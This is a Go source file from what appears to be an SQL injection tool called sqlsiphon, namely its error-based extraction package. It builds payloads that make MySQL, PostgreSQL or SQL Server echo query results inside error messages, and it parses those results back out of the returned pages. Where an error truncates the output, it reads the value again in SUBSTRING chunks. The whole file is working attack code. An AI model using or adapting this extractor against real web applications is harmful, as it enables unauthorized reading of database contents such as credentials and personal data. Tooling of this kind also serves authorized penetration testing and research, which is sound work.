// Package errorbased retrieves values the back-end echoes inside its error
// messages.
//
// The value is wrapped between a start and a stop delimiter before it is
// forced into an error. Some errors reflect only a few characters (MySQL's
// XPATH functions keep 32), so a reply that carries the start delimiter but
// not the stop delimiter is read again in SUBSTRING chunks.
package errorbased

import (
	"context"
	"errors"
	"fmt"
	"html"
	"regexp"
	"strings"
	"unicode/utf8"

	"github.com/0x6d61/sqlsiphon/internal/dbms"
	"github.com/0x6d61/sqlsiphon/internal/sqlexpr"
)

// DefaultMaxChunks limits the number of SUBSTRING requests for one value.
const DefaultMaxChunks = 50

// FieldDelimiter separates the fields of a multi-field expression.
const FieldDelimiter = "qysiphonq"

// ErrTruncated is returned when a value cannot be read back in chunks.
var ErrTruncated = errors.New("errorbased: output truncated")

// Legacy patterns match error messages produced by payloads that carry no
// delimiters.
var (
	// mysqlTildePattern matches MySQL XPATH error output: ~<DATA>~ or ~<DATA>'
	mysqlTildePattern = regexp.MustCompile(`~([^~']+)`)

	// postgresqlCastPattern matches PostgreSQL cast errors:
	// invalid input syntax for type integer: "<DATA>"
	postgresqlCastPattern = regexp.MustCompile(`invalid input syntax for type (?:integer|numeric): "([^"]+)"`)

	// mssqlConvertPattern matches SQL Server conversion errors:
	// Conversion failed when converting the varchar value '<DATA>' to data type int.
	mssqlConvertPattern = regexp.MustCompile(`(?i)Conversion failed when converting the (?:n?varchar|nchar|char|ntext|text) value '([^']+)' to data type`)
)

// Fetcher sends a payload whose [QUERY] marker is replaced by query and
// returns the page.
type Fetcher func(ctx context.Context, query string) (string, error)

// Result is the outcome of an extraction.
type Result struct {
	Value    string
	Found    bool
	Requests int
}

// Fields splits a multi-field value into its fields.
func (r Result) Fields() []string {
	return strings.Split(r.Value, FieldDelimiter)
}

// Extractor forges error payload queries for one back-end.
type Extractor struct {
	dbms      dbms.DBMS
	dialect   *dbms.Dialect
	start     string
	stop      string
	output    int
	maxChunks int
}

// Option configures an Extractor.
type Option func(*Extractor)

// WithOutput sets how many characters the error reflects; 0 means the
// chunk size is learned from the first truncated reply.
func WithOutput(n int) Option {
	return func(e *Extractor) { e.output = n }
}

// WithMaxChunks overrides DefaultMaxChunks.
func WithMaxChunks(n int) Option {
	return func(e *Extractor) {
		if n > 0 {
			e.maxChunks = n
		}
	}
}

// New creates an Extractor using the start and stop delimiters. A nil d
// falls back to MySQL syntax.
func New(d dbms.DBMS, start, stop string, opts ...Option) *Extractor {
	if d == nil {
		d = dbms.Registry("MySQL")
	}
	e := &Extractor{
		dbms:      d,
		dialect:   dbms.LookupDialect(d.Name()),
		start:     start,
		stop:      stop,
		maxChunks: DefaultMaxChunks,
	}
	for _, o := range opts {
		o(e)
	}
	return e
}

// OutputFor returns the reflected length of the built-in template matching
// template, or 0 when none matches.
func OutputFor(d dbms.DBMS, template string) int {
	if d == nil {
		return 0
	}
	for _, p := range d.ErrorPayloads() {
		if p.Template == template {
			return p.Output
		}
	}
	return 0
}

// Text returns expression cast to text. The fields of a multi-field SELECT
// are concatenated around FieldDelimiter.
func (e *Extractor) Text(expression string) string {
	if sqlexpr.IsSelect(expression) && !e.dialect.Opaque(expression) {
		set := sqlexpr.Fields(expression)
		if len(set.List) > 1 {
			parts := make([]string, 0, 3*len(set.List))
			for i, f := range set.List {
				if i > 0 {
					parts = append(parts, e.literal(FieldDelimiter)...)
				}
				parts = append(parts, e.dialect.NullCastText(f))
			}
			expression = strings.Replace(expression, set.Raw, e.dbms.Concatenate(parts...), 1)
		}
	}
	return e.dialect.CastText("(" + expression + ")")
}

// Wrap surrounds text with the delimiters.
func (e *Extractor) Wrap(text string) string {
	parts := append(e.literal(e.start), text)
	parts = append(parts, e.literal(e.stop)...)
	return "(" + e.dbms.Concatenate(parts...) + ")"
}

// literal returns s as two quoted halves so an echoed payload never carries
// a whole delimiter.
func (e *Extractor) literal(s string) []string {
	if len(s) < 2 {
		return []string{e.dbms.QuoteString(s)}
	}
	half := len(s) / 2
	return []string{e.dbms.QuoteString(s[:half]), e.dbms.QuoteString(s[half:])}
}

// Extract reads expression through fetch, first whole and then in chunks
// when the reply was cut short.
func (e *Extractor) Extract(ctx context.Context, fetch Fetcher, expression string) (Result, error) {
	text := e.Text(expression)

	page, err := fetch(ctx, e.Wrap(text))
	res := Result{Requests: 1}
	if err != nil {
		return res, err
	}
	value, truncated, ok := Parse(page, e.start, e.stop)
	if !ok {
		return res, nil
	}
	if !truncated {
		res.Value, res.Found = value, true
		return res, nil
	}

	size := e.output - len(e.start) - len(e.stop)
	if e.output <= 0 {
		size = utf8.RuneCountInString(value) - len(e.stop)
	}
	if size <= 0 {
		return res, fmt.Errorf("%w: %d characters reflected", ErrTruncated, utf8.RuneCountInString(value))
	}

	var b strings.Builder
	for chunk := 0; chunk < e.maxChunks; chunk++ {
		if err := ctx.Err(); err != nil {
			return res, err
		}
		page, err := fetch(ctx, e.Wrap(e.dbms.Substring(text, chunk*size+1, size)))
		res.Requests++
		if err != nil {
			return res, err
		}
		part, cut, ok := Parse(page, e.start, e.stop)
		if !ok || cut {
			return res, fmt.Errorf("%w: chunk %d", ErrTruncated, chunk+1)
		}
		b.WriteString(part)
		if utf8.RuneCountInString(part) < size {
			break
		}
	}
	res.Value, res.Found = b.String(), true
	return res, nil
}

// Parse returns the value reflected between start and stop in page.
// truncated reports a start delimiter with no stop delimiter after it, in
// which case value holds what follows the start delimiter. Pages without
// delimiters are matched against the legacy DBMS error formats.
func Parse(page, start, stop string) (value string, truncated, ok bool) {
	page = html.UnescapeString(page)
	if start != "" {
		if i := strings.Index(page, start); i >= 0 {
			rest := page[i+len(start):]
			if j := strings.Index(rest, stop); stop != "" && j >= 0 {
				return rest[:j], false, true
			}
			return trimTail(rest), true, true
		}
	}
	if v, ok := parseLegacy(page); ok {
		return v, false, true
	}
	return "", false, false
}

// trimTail drops the quote and markup an error message puts after a
// truncated value.
func trimTail(s string) string {
	if i := strings.IndexAny(s, "'\"<\n"); i >= 0 {
		return s[:i]
	}
	return s
}

func parseLegacy(page string) (string, bool) {
	for _, re := range []*regexp.Regexp{mysqlTildePattern, postgresqlCastPattern, mssqlConvertPattern} {
		if m := re.FindStringSubmatch(page); len(m) > 1 {
			return m[1], true
		}
	}
	return "", false
}
